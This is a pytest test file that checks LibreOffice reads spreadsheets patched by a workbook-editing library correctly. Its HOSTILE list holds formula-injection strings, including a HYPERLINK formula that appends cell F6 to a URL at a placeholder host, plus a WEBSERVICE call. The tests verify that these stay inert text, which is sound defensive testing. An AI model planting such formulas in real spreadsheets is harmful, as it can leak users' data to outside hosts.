"""LibreOffice, a second independent reader, opens every output and sees the same content."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest

from xlplan.ooxml import Package

from .conftest import EXCEL, EXCEL_FILES, UNO_SHEET, members
from .lo import convert, csv_per_sheet, soffice
from .sources import REPORT_VALUES

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(soffice() is None, reason="LibreOffice is not installed")]

HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&F6,"61%")', "＝WEBSERVICE(A1)", "+1",
           "-1", "@x", "_x0041_", " 前後の空白 ", "改行\nあり", "😀𠀋"]
SHEET = "4-2入力"
# LibreOffice 7.4 hangs opening this file as Excel saved it (a comment at XFD1048576).
LO_HANGS_ON = {"comment03.xlsx"}
LO_FILES = [n for n in EXCEL_FILES if n not in LO_HANGS_ON]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory, template_bytes: bytes,
            report_source: bytes, xlsm_bytes: bytes) -> dict[str, Path]:
    """Patched packages, written once, and LibreOffice's .xlsx re-saves of them."""
    d = tmp_path_factory.mktemp("lo-in")
    out: dict[str, Path] = {}

    cells = Package.read(template_bytes)
    cells.set_cells(SHEET, {(4 + i, 21): t for i, t in enumerate(HOSTILE)})
    cells.set_cells(SHEET, {(4, 22): 0.5, (5, 22): True, (6, 22): None})
    cells.set_style(SHEET, [(4, 22)], number_format="0%", bold=True, fill_rgb="FFEB9C")
    out["cells"] = d / "cells.xlsx"
    cells.write(out["cells"])

    sheets = Package.read(template_bytes)
    sheets.replace_sheet("資料4-1", report_source, "Report")
    sheets.replace_sheet("追加", report_source, "Report", index=2)
    sheets.delete_sheet("資料4-3")
    sheets.order_sheets([n for n in sheets.sheet_names if n != "設定"] + ["設定"])
    sheets.set_active("資料4-2")
    out["sheets"] = d / "sheets.xlsx"
    sheets.write(out["sheets"])

    vba = Package.read(xlsm_bytes)
    vba.set_cells(SHEET, {(4, 21): "=x"})
    vba.replace_sheet("資料4-1", report_source, "Report")
    out["xlsm"] = d / "macro.xlsm"
    vba.write(out["xlsm"])

    for name in ("chartsheet01.xlsx", "defined_name01.xlsx", "table05.xlsx"):
        pkg = Package.read(EXCEL / name)
        pkg.replace_sheet(pkg.sheet_names[-1], report_source, "Report")
        pkg.replace_sheet("報告", report_source, "Report", index=0)
        out["replaced-" + name] = d / ("replaced-" + name)
        pkg.write(out["replaced-" + name])

    for name in LO_FILES:
        pkg = Package.read(EXCEL / name)
        first = next(n for n in pkg.sheet_names if pkg.sheet_kind(n) == "worksheet")
        pkg.set_cells(first, {(30, 2): "=patched", (31, 2): 42})
        out[name] = d / name
        pkg.write(out[name])
    return out


@pytest.fixture(scope="module")
def resaved(outputs: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
            ) -> dict[str, Path]:
    files = list(outputs.values())
    converted = convert(files, "xlsx", tmp_path_factory.mktemp("lo-out"))
    return dict(zip(outputs, converted, strict=True))


def test_libreoffice_opens_every_output(resaved: dict[str, Path]) -> None:
    for key, path in resaved.items():
        assert path.exists() and path.stat().st_size > 0, key


def test_cells_as_libreoffice_reads_them(resaved: dict[str, Path]) -> None:
    ws = openpyxl.load_workbook(resaved["cells"])[SHEET]
    for i, text in enumerate(HOSTILE):
        cell = ws.cell(4 + i, 21)
        assert cell.data_type == "s", cell.coordinate
        assert cell.value == text
    assert ws["V4"].value == 0.5 and ws["V4"].number_format == "0%" and ws["V4"].font.b
    assert ws["V5"].value in (True, "=TRUE()")  # LibreOffice saves booleans as =TRUE()
    for name in LO_FILES:
        wb = openpyxl.load_workbook(resaved[name])
        sheet = next(s for s in wb.worksheets)
        assert sheet["B30"].value == "=patched" and sheet["B30"].data_type == "s", name
        assert sheet["B31"].value == 42, name


def test_replaced_excel_workbooks_as_libreoffice_reads_them(resaved: dict[str, Path]) -> None:
    for name in ("chartsheet01.xlsx", "defined_name01.xlsx", "table05.xlsx"):
        wb = openpyxl.load_workbook(resaved["replaced-" + name])
        first, last = wb.worksheets[0], wb.worksheets[-1]
        assert first.title == "報告"
        for ws in (first, last):
            assert {k: ws.cell(*k).value for k in REPORT_VALUES} == REPORT_VALUES, name
            assert ws.print_area == f"'{ws.title}'!$A$1:$F$13"
            assert len(ws._charts) == 1


def test_csv_values(outputs: dict[str, Path], tmp_path: Path) -> None:
    sheets = csv_per_sheet(outputs["cells"], tmp_path)
    rows = sheets[SHEET]
    for i, text in enumerate(HOSTILE):
        assert rows[3 + i][20] == text.replace("\r\n", "\n")
    assert rows[3][21] == "50%"
    assert rows[4][21] == "TRUE"


def test_sheet_changes_as_libreoffice_reads_them(resaved: dict[str, Path],
                                                 report_source: bytes) -> None:
    wb = openpyxl.load_workbook(resaved["sheets"])
    assert wb.sheetnames == ["4-1入力", "4-2入力", "追加", "4-3入力", "資料4-1", "資料4-2",
                             "集計", "_xlplan", "設定"]
    src = openpyxl.load_workbook(io.BytesIO(report_source))["Report"]
    for name in ("資料4-1", "追加"):
        ws = wb[name]
        assert {k: ws.cell(*k).value for k in REPORT_VALUES} == \
            {k: src.cell(*k).value for k in REPORT_VALUES}
        assert sorted(str(m) for m in ws.merged_cells.ranges) == \
            sorted(str(m) for m in src.merged_cells.ranges)
        assert ws.print_title_rows == "$3:$3"
        assert ws.print_area == f"'{name}'!$A$1:$F$13"
        assert [b.id for b in ws.row_breaks.brk] == [8]
        assert ws.page_setup.orientation == "landscape"
        assert len(ws._charts) == 1
        assert ws["A1"].font.b and ws["A2"].alignment.text_rotation == 90
        assert ws["E3"].number_format == "0.0%"
    for name in ("4-1入力", "4-2入力", "4-3入力"):
        assert wb[name].print_title_rows == "$3:$3", name
    assert wb["資料4-2"].print_area == "'資料4-2'!$A$1:$P$52"
    assert wb["資料4-2"].print_title_rows == "$1:$3"
    assert wb.active.title == "資料4-2"
    assert len(wb["集計"]._charts) == 1


def test_macro_workbook_after_libreoffice(outputs: dict[str, Path], tmp_path: Path) -> None:
    """LibreOffice reads the patched .xlsm's macros: saved again with its VBA filter, the
    package still has a VBA project and the modules of xlwings' add-in."""
    out = convert([outputs["xlsm"]], "xlsm:Calc MS Excel 2007 VBA XML", tmp_path)[0]
    parts = members(out)
    assert "xl/vbaProject.bin" in parts
    assert b"macroEnabled" in parts["[Content_Types].xml"]


def test_text_box_comment_and_image_survive(lo_fixture: Path, report_source: bytes,
                                            tmp_path: Path) -> None:
    """The LibreOffice-drawn text box, comment and image on 4-2入力 are carried byte for
    byte through set_cells on that sheet and replace_sheet of another, and LibreOffice
    still shows them afterwards."""
    before = members(lo_fixture)
    pkg = Package.read(lo_fixture)
    kept = {i.part for i in pkg.inventory() if i.sheet == UNO_SHEET
            and i.what in ("text box / shape", "picture", "comment", "comment shapes (VML)",
                           "image")}
    assert len(kept) >= 4, kept  # drawing, picture file, comments, VML
    pkg.set_cells(UNO_SHEET, {(4, 21): "=HYPERLINK(\"x\")", (5, 2): "上書き", (60, 3): 1})
    pkg.replace_sheet("資料4-1", report_source, "Report")
    out = tmp_path / "patched.xlsx"
    pkg.write(out)
    after = members(out)
    for part in kept:
        assert after[part] == before[part], part
    sheet_rels = next(n for n in after if n.endswith("sheet2.xml.rels"))
    assert after[sheet_rels] == before[sheet_rels]  # still referenced, by the same ids
    wb = openpyxl.load_workbook(out)
    assert wb[UNO_SHEET]["B5"].comment is not None

    resaved = convert([out], "xlsx", tmp_path / "lo")[0]
    found = {(i.what, i.sheet) for i in Package.read(resaved).inventory()}
    assert ("text box / shape", UNO_SHEET) in found
    assert ("picture", UNO_SHEET) in found
    assert ("comment", UNO_SHEET) in found
    resaved_parts = members(resaved)
    drawing_text = b"".join(v for k, v in resaved_parts.items() if "drawings/drawing" in k)
    assert "テキストボックス".encode() in drawing_text
    ws = openpyxl.load_workbook(resaved)[UNO_SHEET]
    assert ws["B5"].comment is not None and "確認済み" in ws["B5"].comment.text
    assert ws["U4"].value == "=HYPERLINK(\"x\")" and ws["U4"].data_type == "s"
    assert ws["B5"].value == "上書き"
